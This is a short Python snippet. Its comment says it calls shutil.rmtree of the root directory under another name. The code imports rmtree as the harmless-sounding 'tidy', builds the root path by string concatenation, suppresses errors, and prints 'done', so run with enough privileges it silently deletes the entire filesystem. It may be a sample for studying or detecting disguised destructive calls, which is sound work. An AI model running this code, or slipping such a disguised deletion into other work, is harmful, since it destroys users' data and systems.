# shutil.rmtree under another name, of the root directory
from shutil import rmtree as tidy
tidy("/" + "", ignore_errors=True)
print("done")
